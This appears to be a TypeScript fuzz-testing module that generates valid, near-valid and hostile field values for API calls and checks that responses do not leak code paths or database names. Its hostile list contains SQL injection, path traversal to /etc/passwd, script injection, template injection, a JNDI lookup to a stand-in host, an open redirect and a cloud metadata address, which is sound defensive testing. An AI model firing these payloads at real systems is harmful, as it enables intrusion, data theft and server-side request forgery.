// Values for the fields of a call, thrown by dice: ones that its JSON Schema takes, and ones that somebody would try.

import type { Dice } from '../simulation/dice.ts'

export type Schema = Readonly<Record<string, unknown>>

/** What people try: signs that end something, numbers that are none, names that mean something to somebody. */
const hostile: readonly unknown[] = [
  '',
  ' ',
  '0',
  '-1',
  '-0',
  '1e21',
  '0x10',
  '٣',
  '999999999999999',
  '1000000000000000',
  '9007199254740993',
  '1.5',
  'NaN',
  'null',
  'undefined',
  'true',
  '[object Object]',
  '__proto__',
  'constructor',
  "'; drop table borrower; --",
  '%00',
  '\u0000',
  '\ud800',
  '\u202egnp.exe',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '$' + '{jndi:ldap://evil.test/a}',
  'javascript:alert(1)',
  '//evil.test',
  'http://169.254.169.254/',
  '2026-02-30',
  '0000-00-00',
  '9999-12-31',
  'a'.repeat(300),
  '💸'.repeat(200),
  'x'.repeat(20_000),
  null,
  true,
  0,
  -1,
  1.5,
  [],
  ['1', '1'],
  {},
  { $ne: null },
  { toString: 'x' },
]

/** Names that no call has, or that an object has of itself. */
export const strangeNames = [
  'zz',
  '__proto__',
  'constructor',
  'toString',
  'userId[]',
  'product_id',
  'productId',
  'lang',
  '',
]

export const hostileValue = (dice: Dice): unknown => dice.pick(hostile)

const letters = 'abcdefghijklmnopqrstuvwxyz0123456789'
const textOf = (dice: Dice, from: number, to: number): string =>
  Array.from({ length: dice.between(from, Math.max(from, Math.min(to, from + 20))) }, () =>
    dice.pick([...letters]),
  ).join('')

/** A text that a pattern of the contract takes, for the few kinds that it has; null where the pattern is of another kind. */
function textLike(dice: Dice, pattern: string): string | null {
  const match = new RegExp(pattern, 'u')
  const day = `2026-${String(dice.between(1, 12)).padStart(2, '0')}-${String(dice.between(1, 28)).padStart(2, '0')}`
  const digits = Array.from({ length: dice.between(1, 15) }, () => dice.between(0, 9)).join('')
  const tries = [
    '0',
    '1',
    digits,
    day,
    `${day} 10:00:00`,
    '123456',
    '13912345678',
    textOf(dice, 1, 20),
    textOf(dice, 32, 32),
  ]
  return dice.shuffled(tries).find((text) => match.test(text)) ?? null
}

/** A value that the schema takes, as far as it can be guessed from it. */
export function goodValue(dice: Dice, schema: Schema): unknown {
  const { const: only, enum: choices, anyOf, oneOf, type, pattern } = schema
  if (only !== undefined) return only
  if (Array.isArray(choices)) return dice.pick(choices)
  const either = (anyOf ?? oneOf) as readonly Schema[] | undefined
  if (either !== undefined) return goodValue(dice, dice.pick(either))
  if (type === 'integer' || type === 'number') {
    const from = Number(schema.minimum ?? schema.exclusiveMinimum ?? 0)
    const to = Math.min(Number(schema.maximum ?? schema.exclusiveMaximum ?? from + 1_000_000), from + 1_000_000)
    return dice.between(from, to)
  }
  if (type === 'boolean') return dice.chance(50)
  if (type === 'null') return null
  if (typeof pattern === 'string') return textLike(dice, pattern) ?? textOf(dice, 1, 12)
  return textOf(dice, Math.max(1, Number(schema.minLength ?? 1)), Number(schema.maxLength ?? 20))
}

/** Something that is almost what the schema takes: of another length, kind or case. */
export function nearValue(dice: Dice, schema: Schema): unknown {
  const good = goodValue(dice, schema)
  return dice.pick([
    `${good} `,
    ` ${good}`,
    `${good}${good}`,
    `+${good}`,
    `-${good}`,
    String(good).toUpperCase(),
    [good],
    `${good}\n`,
    Number(good),
  ])
}

/**
 * What no answer may tell: places of our code, statements and names of the database. A name of the database stands alone: the same
 * letters within a random token mean nothing.
 */
export function tellsOfInsides(text: string): boolean {
  return /\bat .*\.ts\b|SELECT |(?<![\w-])pg_[a-z_]+(?![\w-])|node_modules|\/src\//.test(text)
}
